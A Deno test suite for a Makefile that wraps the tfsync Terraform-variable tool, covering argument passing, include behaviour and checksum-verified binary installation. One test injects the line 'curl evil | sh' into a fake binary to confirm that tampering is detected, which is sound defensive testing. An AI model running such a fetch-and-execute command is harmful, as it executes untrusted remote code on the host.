// The Makefile: its wrappers' exact argv (through a fake tfsync that prints its arguments), the
// command it picks, its use through -f/-C and `include`, and tfsync-install's verification
// against a fake release folder served through a file:// URL.
import assert from "node:assert/strict";
import { dirname, join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import denoJson from "../deno.json" with { type: "json" };
import { RUN_FLAGS } from "../tools/permissions.ts";
import { EXAMPLE, tempCopy } from "./_cli.ts";

const REPO = fileURLToPath(new URL("..", import.meta.url)).replace(/\/$/, "");
const MAKEFILE = join(REPO, "Makefile");
const VERSION = denoJson.version;
const FAKE_TFSYNC = "#!/bin/sh\nprintf 'arg:%s\\n' \"$@\"\n";
const NOT_FOUND = "tfsync not found: run 'make tfsync-install', put tfsync on PATH, or set TFSYNC";

function which(tool: string): string | undefined {
  try {
    const out = new Deno.Command("sh", { args: ["-c", `command -v ${tool}`] }).outputSync();
    return out.success ? new TextDecoder().decode(out.stdout).trim() : undefined;
  } catch {
    return undefined;
  }
}

const MAKE = Deno.build.os === "windows" ? undefined : which("make");
const CURL = which("curl");
const SHA = which("sha256sum") ?? which("shasum");

/** Deno.test, or an ignored test whose name says which tool is missing. */
function makeTest(name: string, fn: () => Promise<void>, tools: Record<string, unknown> = {}) {
  const absent = Object.entries({ make: MAKE, ...tools }).filter(([, p]) => !p).map(([t]) => t);
  if (absent.length === 0) Deno.test(name, fn);
  else Deno.test({ name: `${name} (skipped: ${absent.join(", ")} not found)`, ignore: true, fn });
}

const installTest = (name: string, fn: () => Promise<void>) =>
  makeTest(name, fn, { curl: CURL, "sha256sum or shasum": SHA });

// make, sh, coreutils, curl and deno, but no tfsync the developer may have installed.
const PATH = [...new Set([MAKE, CURL, SHA, Deno.execPath(), "/usr/bin/env", "/bin/sh"])]
  .filter((p) => p !== undefined).map((p) => dirname(p!)).join(":");
const BASE_ENV: Record<string, string> = { PATH };
for (const name of ["HOME", "DENO_DIR", "XDG_CACHE_HOME"]) {
  const value = Deno.env.get(name);
  if (value !== undefined) BASE_ENV[name] = value;
}

interface Run {
  code: number;
  stdout: string;
  stderr: string;
  /** The arguments the fake tfsync received. */
  argv: string[];
}

async function make(args: string[], cwd?: string, env: Record<string, string> = {}): Promise<Run> {
  const out = await new Deno.Command("make", {
    args,
    cwd,
    clearEnv: true,
    env: { ...BASE_ENV, ...env },
    stdin: "null",
  }).output();
  const stdout = new TextDecoder().decode(out.stdout);
  const argv = stdout.split("\n").filter((l) => l.startsWith("arg:")).map((l) => l.slice(4));
  return { code: out.code, stdout, stderr: new TextDecoder().decode(out.stderr), argv };
}

/** An argv written as words; ROOT stands for the directory make runs in. */
function argv(words: string, root: string): string[] {
  return words.split(" ").map((w) => w === "ROOT" ? root : w);
}

/** A temporary directory holding the fake tfsync, removed after fn. */
async function withDir(fn: (dir: string, fake: string) => Promise<void>): Promise<void> {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "tfsync_make_" }));
  try {
    const fake = join(dir, "fake-tfsync");
    await writeExecutable(fake, FAKE_TFSYNC);
    await fn(dir, fake);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

async function writeExecutable(path: string, text: string): Promise<void> {
  await Deno.mkdir(dirname(path), { recursive: true });
  await Deno.writeTextFile(path, text);
  await Deno.chmod(path, 0o755);
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

// [make arguments besides SYNC_SOURCE=a SYNC_TARGET=b, the argv tfsync gets]
const WRAPPERS: [string[], string][] = [
  [["sync-features-from"], "extract --from a --root ROOT"],
  [["sync-features-to"], "apply --to b --root ROOT"],
  [["sync-diff"], "diff --from a --to b --root ROOT"],
  [["sync-diff", "EXIT_CODE=1"], "diff --from a --to b --exit-code --root ROOT"],
  [["sync-promote"], "promote --from a --to b --root ROOT"],
  [["sync-backport"], "backport --from a --to b --root ROOT"],
  [["sync-images"], "sync --from a --to b --group images --root ROOT"],
  [["sync-dask"], "sync --from a --to b --group dask --root ROOT"],
  [["sync-timeouts"], "sync --from a --to b --group timeouts --root ROOT"],
  [["sync-foo"], "sync --from a --to b --group foo --root ROOT"],
  [["sync-check"], "check --root ROOT"],
  [
    ["sync-check", "ENV=dev prod", "STRICT=1", "FORMAT=markdown"],
    "check --env dev --env prod --strict --format markdown --root ROOT",
  ],
  [["sync-explain", "VAR=x"], "explain x --root ROOT"],
  [["sync-explain", "VAR=x", "ENV=prod"], "explain x --env prod --root ROOT"],
  [["sync-matrix"], "matrix --root ROOT"],
  [
    ["sync-matrix", "GROUP=images dask", "FORMAT=html"],
    "matrix --group images --group dask --format html --root ROOT",
  ],
  [["sync-init"], "init --root ROOT"],
  [
    ["sync-init", "FROM_MAKEFILE=old/Makefile", "FORCE=1"],
    "init --from-makefile old/Makefile --force --root ROOT",
  ],
  [["sync-restore"], "restore --root ROOT"],
  [["sync-restore", "ENV=x"], "restore --env x --root ROOT"],
  // The options every wrapper passes.
  [["sync-promote", "YES=1"], "promote --from a --to b --root ROOT --yes"],
  [["sync-backport", "DRY_RUN=1"], "backport --from a --to b --root ROOT --dry-run"],
  [["sync-promote", "YES=0", "DRY_RUN="], "promote --from a --to b --root ROOT"],
  [
    ["sync-images", "YES=1", "DRY_RUN=1", "TFSYNC_ARGS=--no-backup --json"],
    "sync --from a --to b --group images --root ROOT --yes --dry-run --no-backup --json",
  ],
];

makeTest(
  "Makefile wrappers pass the exact arguments, --root the directory make runs in",
  () =>
    withDir(async (dir, fake) => {
      const infra = join(dir, "infra");
      await Deno.mkdir(infra);
      for (const [args, want] of WRAPPERS) {
        const pair = ["SYNC_SOURCE=a", "SYNC_TARGET=b"];
        const run = await make(["-f", MAKEFILE, "-C", infra, ...args, ...pair, `TFSYNC=${fake}`]);
        assert.equal(run.code, 0, `make ${args.join(" ")}: ${run.stderr}`);
        assert.deepEqual(run.argv, argv(want, infra), `make ${args.join(" ")}`);
      }
    }),
);

makeTest(
  "Makefile defaults to englacial -> dev and reads its variables from the environment",
  () =>
    withDir(async (dir, fake) => {
      let run = await make(["-f", MAKEFILE, "sync-promote", `TFSYNC=${fake}`], dir);
      assert.deepEqual(run.argv, argv("promote --from englacial --to dev --root ROOT", dir));
      const env = { TFSYNC: fake, SYNC_SOURCE: "prod", SYNC_TARGET: "dev", YES: "1" };
      run = await make(["-f", MAKEFILE, "sync-backport"], dir, env);
      assert.deepEqual(run.argv, argv("backport --from prod --to dev --root ROOT --yes", dir));
    }),
);

makeTest(
  "Makefile refuses sync-explain without VAR",
  () =>
    withDir(async (dir, fake) => {
      const cases = [["sync-explain", "sync-explain needs VAR=<variable>.  Stop."]];
      for (const [target, message] of cases) {
        const run = await make(["-f", MAKEFILE, target, `TFSYNC=${fake}`], dir);
        assert.notEqual(run.code, 0);
        assert.deepEqual(run.argv, []);
        assert.ok(run.stderr.includes(message), run.stderr);
      }
    }),
);

makeTest(
  "make sync-restore undoes the whole last run; ENV=prod only prod's .bak (the real tfsync)",
  async () => {
    const root = await tempCopy(EXAMPLE);
    try {
      const files = ["environments/shared-features.tfvars", "environments/prod/terraform.tfvars"];
      const read = () => Promise.all(files.map((f) => Deno.readTextFile(join(root, f))));
      const original = await read();
      const run = async (...args: string[]) => {
        const r = await make(["-f", MAKEFILE, "-C", root, ...args, "YES=1"]);
        assert.equal(r.code, 0, `make ${args.join(" ")}: ${r.stderr}`);
        return r;
      };
      const promote = ["sync-promote", "SYNC_SOURCE=englacial", "SYNC_TARGET=prod"];
      await run(...promote);
      const promoted = await read();
      assert.notEqual(promoted[0], original[0]);
      assert.notEqual(promoted[1], original[1]);
      // Without ENV: the shared file and prod, both as they were.
      await run("sync-restore");
      assert.deepEqual(await read(), original);
      // ENV=prod: prod's .bak only; the shared file stays promoted.
      await run(...promote);
      await run("sync-restore", "ENV=prod");
      assert.deepEqual(await read(), [promoted[0], original[1]]);
    } finally {
      await Deno.remove(root, { recursive: true });
    }
  },
);

makeTest(
  "Makefile runs a wrapper even when a file of the same name exists",
  () =>
    withDir(async (dir, fake) => {
      for (
        const [target, command] of [["sync-images", "sync"], ["sync-foo", "sync"], [
          "sync-check",
          "check",
        ]]
      ) {
        await Deno.writeTextFile(join(dir, target), "");
        const run = await make(["-f", MAKEFILE, target, `TFSYNC=${fake}`], dir);
        assert.equal(run.code, 0, run.stderr);
        assert.equal(run.argv[0], command);
      }
    }),
);

makeTest(
  "Makefile included from an infrastructure Makefile keeps its default goal and runs there",
  () =>
    withDir(async (dir, fake) => {
      const infra = join(dir, "infra");
      await Deno.mkdir(infra);
      const tfsync = `TFSYNC=${fake}`;
      // Included first, before the infrastructure's own variables and targets.
      await Deno.writeTextFile(
        join(infra, "Makefile"),
        `include ${MAKEFILE}\n\nSYNC_SOURCE := staging\n\nplan:\n\t@echo planning\n`,
      );
      let run = await make(["-C", infra], dir);
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /^planning$/m);
      run = await make(["-C", infra, "sync-promote", "SYNC_TARGET=prod", "YES=1", tfsync], dir);
      assert.equal(run.code, 0, run.stderr);
      assert.deepEqual(run.argv, argv("promote --from staging --to prod --root ROOT --yes", infra));
      run = await make(["-C", infra, "sync-restore", "ENV=prod", tfsync], dir);
      assert.deepEqual(run.argv, argv("restore --env prod --root ROOT", infra));

      // Included last, after a target of its own and a sync-* target of its own.
      await Deno.writeTextFile(
        join(infra, "Makefile"),
        `all:\n\t@echo own default\n\nsync-legacy:\n\t@echo legacy\n\ninclude ${MAKEFILE}\n`,
      );
      run = await make(["-C", infra], dir);
      assert.match(run.stdout, /^own default$/m);
      run = await make(["-C", infra, "sync-legacy", tfsync], dir);
      assert.match(run.stdout, /^legacy$/m);
      assert.deepEqual(run.argv, []);
      run = await make(["-C", infra, "sync-dask", tfsync], dir);
      assert.deepEqual(
        run.argv,
        argv("sync --from englacial --to dev --group dask --root ROOT", infra),
      );
    }),
);

makeTest(
  "Makefile runs ./bin/tfsync, else tfsync on PATH, else deno run of mod.ts with the narrow permissions",
  () =>
    withDir(async (dir) => {
      const command = async (env: Record<string, string> = {}) => {
        const run = await make(["-f", MAKEFILE, "tfsync-help"], dir, env);
        assert.equal(run.code, 0, run.stderr);
        return /^Command: (.*)$/m.exec(run.stdout)?.[1];
      };
      const flags = RUN_FLAGS.join(" ");
      assert.equal(
        await command(),
        `deno run --config '${REPO}/deno.json' ${flags} '${REPO}/mod.ts'`,
      );
      const onPath = join(dir, "path-bin");
      await writeExecutable(join(onPath, "tfsync"), FAKE_TFSYNC);
      assert.equal(await command({ PATH: `${onPath}:${PATH}` }), join(onPath, "tfsync"));
      await writeExecutable(join(dir, "bin", "tfsync"), FAKE_TFSYNC);
      assert.equal(await command({ PATH: `${onPath}:${PATH}` }), "./bin/tfsync");
      const run = await make(["-f", MAKEFILE, "sync-diff"], dir);
      assert.deepEqual(run.argv, argv("diff --from englacial --to dev --root ROOT", dir));
    }),
);

makeTest(
  "Makefile copied alone into a repository says how to get tfsync",
  () =>
    withDir(async (dir) => {
      await Deno.copyFile(MAKEFILE, join(dir, "tfsync.mk"));
      // The repository's own deno.json says nothing of tfsync's version.
      await Deno.writeTextFile(join(dir, "deno.json"), '{\n  "version": "7.7.7"\n}\n');
      const help = await make(["-f", "tfsync.mk", "tfsync-help"], dir);
      assert.equal(help.code, 0, help.stderr);
      assert.ok(help.stdout.includes(`\nCommand: tfsync (${NOT_FOUND})\n`), help.stdout);
      const run = await make(["-f", "tfsync.mk", "sync-promote"], dir);
      assert.notEqual(run.code, 0);
      assert.ok(run.stderr.includes(`${NOT_FOUND}.  Stop.`), run.stderr);
      const install = await make(["-f", "tfsync.mk", "tfsync-install"], dir);
      assert.equal(install.code, 2);
      assert.ok(
        install.stderr.startsWith(
          "tfsync-install: TFSYNC_VERSION is not set: set TFSYNC_REPO=<owner>/<repo>",
        ),
        install.stderr,
      );
    }),
);

// --- tfsync-install ----------------------------------------------------------------------------

const RELEASE_TARGETS = [
  "x86_64-unknown-linux-gnu",
  "aarch64-unknown-linux-gnu",
  "x86_64-apple-darwin",
  "aarch64-apple-darwin",
];
const HOST = Deno.build.target;
const GOOD_BINARY = `#!/bin/sh\necho "tfsync ${VERSION}"\n`;

async function sha256(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return Array.from(new Uint8Array(digest), (b) => b.toString(16).padStart(2, "0")).join("");
}

/** A release folder as release.yml publishes it; SHA256SUMS lists `listed`'s hash. */
async function fakeRelease(dir: string, published: string, listed = published, version = VERSION) {
  const release = join(dir, "release");
  await Deno.mkdir(release, { recursive: true });
  const name = `tfsync-${version}-${HOST}`;
  const other = `tfsync-${version}-riscv64-unknown-none`;
  await Deno.writeTextFile(join(release, name), published);
  await Deno.writeTextFile(join(release, other), "another target\n");
  const sums = `${await sha256("another target\n")}  ${other}\n${await sha256(listed)}  ${name}\n`;
  await Deno.writeTextFile(join(release, "SHA256SUMS"), sums);
  return pathToFileURL(release).href;
}

installTest(
  "tfsync-install downloads the host's binary into ./bin, verified and executable",
  () =>
    withDir(async (dir) => {
      const url = await fakeRelease(dir, GOOD_BINARY);
      const run = await make(["-f", MAKEFILE, "tfsync-install", `TFSYNC_RELEASE_URL=${url}`], dir);
      assert.equal(run.code, 0, run.stderr);
      const installed = join(dir, "bin", "tfsync");
      assert.equal(await Deno.readTextFile(installed), GOOD_BINARY);
      assert.notEqual((await Deno.stat(installed)).mode! & 0o111, 0);
      const summary = `tfsync-install: bin/tfsync (tfsync ${VERSION}, sha256 ${await sha256(
        GOOD_BINARY,
      )})`;
      assert.ok(run.stdout.split("\n").includes(summary), run.stdout);
      assert.deepEqual([...Deno.readDirSync(join(dir, "bin"))].map((e) => e.name), ["tfsync"]);
      // The wrappers now run it.
      await Deno.writeTextFile(installed, FAKE_TFSYNC);
      const sync = await make(["-f", MAKEFILE, "sync-timeouts"], dir);
      assert.deepEqual(
        sync.argv,
        argv("sync --from englacial --to dev --group timeouts --root ROOT", dir),
      );
    }),
);

installTest("tfsync-install deletes a tampered binary and fails", () =>
  withDir(async (dir) => {
    const url = await fakeRelease(dir, GOOD_BINARY + "curl evil | sh\n", GOOD_BINARY);
    const run = await make(["-f", MAKEFILE, "tfsync-install", `TFSYNC_RELEASE_URL=${url}`], dir);
    assert.notEqual(run.code, 0);
    const tampered = await sha256(GOOD_BINARY + "curl evil | sh\n");
    const message =
      `tfsync-install: checksum mismatch for tfsync-${VERSION}-${HOST}: got ${tampered}, ` +
      `SHA256SUMS lists ${await sha256(GOOD_BINARY)}; deleted it\n`;
    assert.ok(run.stderr.startsWith(message), run.stderr);
    assert.equal(await exists(join(dir, "bin")), false, "an empty bin/ is left");
  }));

installTest(
  "tfsync-install fails on a binary missing from SHA256SUMS, a pin mismatch, no release",
  () =>
    withDir(async (dir) => {
      const install = (...args: string[]) => make(["-f", MAKEFILE, "tfsync-install", ...args], dir);
      const url = await fakeRelease(dir, GOOD_BINARY, GOOD_BINARY, "9.9.9");
      // This version's binary, but SHA256SUMS of 9.9.9.
      await Deno.writeTextFile(join(fileURLToPath(url), `tfsync-${VERSION}-${HOST}`), GOOD_BINARY);
      let run = await install(`TFSYNC_RELEASE_URL=${url}`);
      assert.notEqual(run.code, 0);
      assert.ok(run.stderr.includes("SHA256SUMS lists nothing; deleted it"), run.stderr);
      assert.equal(await exists(join(dir, "bin", "tfsync")), false);

      // Listed and matching, but not the hash pinned in the infrastructure repository.
      const pinned = ["TFSYNC_VERSION=9.9.9", `TFSYNC_RELEASE_URL=${url}`];
      run = await install(...pinned, `TFSYNC_SHA256=${"0".repeat(64)}`);
      assert.notEqual(run.code, 0);
      assert.ok(
        run.stderr.includes(`and TFSYNC_SHA256 is ${"0".repeat(64)}; deleted it`),
        run.stderr,
      );
      assert.equal(await exists(join(dir, "bin", "tfsync")), false);
      run = await install(...pinned, `TFSYNC_SHA256=${await sha256(GOOD_BINARY)}`);
      assert.equal(run.code, 0, run.stderr);
      await Deno.remove(join(dir, "bin"), { recursive: true });

      run = await install(`TFSYNC_RELEASE_URL=${url}/missing`);
      assert.notEqual(run.code, 0);
      assert.equal(await exists(join(dir, "bin", "tfsync")), false);
    }),
);

makeTest("Makefile's host target is Deno's on the release targets", () =>
  withDir(async (dir) => {
    if (!RELEASE_TARGETS.includes(HOST)) return;
    const run = await make(["-f", MAKEFILE, "-n", "tfsync-install", "TFSYNC_VERSION=v"], dir);
    assert.equal(run.code, 0, run.stderr);
    assert.ok(run.stdout.includes(`name='tfsync-v-${HOST}';`), run.stdout);
  }));

installTest(
  "examples/ci's Makefile installs the pinned release and runs sync-check",
  () =>
    withDir(async (dir) => {
      const example = await Deno.readTextFile(join(REPO, "examples", "ci", "Makefile"));
      const version = /^TFSYNC_VERSION := (\S+)$/m.exec(example)![1];
      await Deno.writeTextFile(join(dir, "Makefile"), example);
      await Deno.copyFile(MAKEFILE, join(dir, "tfsync.mk"));
      const url = await fakeRelease(dir, FAKE_TFSYNC, FAKE_TFSYNC, version);
      const install = await make(["tfsync-install", `TFSYNC_RELEASE_URL=${url}`], dir);
      assert.equal(install.code, 0, install.stderr);
      // The report is tfsync's output alone: fit for a pull-request comment.
      const check = await make(["sync-check", "FORMAT=markdown"], dir);
      assert.equal(check.code, 0, check.stderr);
      assert.equal(
        check.stdout,
        argv("check --format markdown --root ROOT", dir).map((a) => `arg:${a}\n`).join(""),
      );
      const promote = await make(["sync-promote", "YES=1"], dir);
      assert.deepEqual(
        promote.argv,
        argv("promote --from englacial --to prod --root ROOT --yes", dir),
      );
    }),
);

// --- make's conventions ----------------------------------------------------------------------

makeTest(
  "a report through make is the report alone: valid JSON, also from a sub-make",
  () =>
    withDir(async (dir) => {
      const fake = join(dir, "json-tfsync");
      const json = '{"format_version": 1, "make": "%s", "args": "%s"}';
      await writeExecutable(fake, `#!/bin/sh\nprintf '${json}\\n' "$TFSYNC_MAKE" "$*"\n`);
      const infra = join(dir, "infra");
      await Deno.mkdir(infra);
      await Deno.writeTextFile(join(infra, "Makefile"), `include ${MAKEFILE}\n`);
      // An infrastructure Makefile that runs the check in a sub-folder: no "Entering directory".
      await Deno.writeTextFile(
        join(dir, "Makefile"),
        `include ${MAKEFILE}\n\nreport:\n\t@$(MAKE) -C infra sync-check FORMAT=json TFSYNC=${fake}\n`,
      );
      const run = await make(["report"], dir);
      assert.equal(run.code, 0, run.stderr);
      // TFSYNC_MAKE=1 tells tfsync to name make's words in its messages.
      assert.deepEqual(JSON.parse(run.stdout), {
        format_version: 1,
        make: "1",
        args: `check --format json --root ${infra}`,
      });
      // make -C prints "Entering directory" before it reads any Makefile: OUTPUT= keeps the
      // report off stdout.
      const out = await make(
        ["-C", infra, "sync-check", "FORMAT=json", "OUTPUT=report.json", `TFSYNC=${fake}`],
        dir,
      );
      assert.equal(out.code, 0, out.stderr);
      assert.equal(
        JSON.parse(out.stdout.replace(/^make: .*\n/gm, "")).args,
        `check --format json --output report.json --root ${infra}`,
      );
    }),
);

makeTest(
  "make help lists tfsync's targets, also from an including Makefile with a help of its own",
  () =>
    withDir(async (dir) => {
      const infra = join(dir, "infra");
      await Deno.mkdir(infra);
      const own =
        `include ${MAKEFILE}\n\nhelp: ## This repository's targets\n\t@echo '  plan  terraform plan'\n`;
      for (
        const [makefile, extra] of [[`include ${MAKEFILE}\n`, ""], [
          own,
          "  plan  terraform plan\n",
        ]]
      ) {
        await Deno.writeTextFile(join(infra, "Makefile"), makefile);
        const run = await make(["help"], infra);
        assert.equal(run.code, 0, run.stderr);
        assert.match(run.stdout, /^tfsync targets \(SYNC_SOURCE=englacial SYNC_TARGET=dev\):\n/);
        assert.match(run.stdout, /^ {2}sync-promote {9}Extract from SYNC_SOURCE/m);
        assert.ok(run.stdout.endsWith(extra), run.stdout);
      }
    }),
);

installTest(
  "tfsync-install with the placeholder repository or no release says how to set it, and leaves no bin/",
  () =>
    withDir(async (dir) => {
      const how = "set TFSYNC_REPO=<owner>/<repo> (where tfsync's releases are) and " +
        "TFSYNC_VERSION=<version>, e.g. make tfsync-install TFSYNC_REPO=acme/tfsync " +
        "TFSYNC_VERSION=0.1.0, or TFSYNC_RELEASE_URL to a mirror\n";
      for (const repo of ["REPLACE_ME/tfsync", "owner/tfsync", "your-org/tfsync"]) {
        const run = await make(["-f", MAKEFILE, "tfsync-install", `TFSYNC_REPO=${repo}`], dir);
        assert.equal(run.code, 2);
        assert.ok(
          run.stderr.startsWith(`tfsync-install: TFSYNC_REPO is the placeholder "${repo}": ${how}`),
          run.stderr,
        );
        assert.equal(await exists(join(dir, "bin")), false);
      }
      const missing = pathToFileURL(join(dir, "no-release")).href;
      const run = await make(
        ["-f", MAKEFILE, "tfsync-install", `TFSYNC_RELEASE_URL=${missing}`],
        dir,
      );
      assert.notEqual(run.code, 0);
      assert.ok(
        run.stderr.includes(
          `tfsync-install: no release found: ${missing}/tfsync-${VERSION}-${HOST} could not be downloaded: ${how}`,
        ),
        run.stderr,
      );
      assert.equal(await exists(join(dir, "bin")), false);
    }),
);
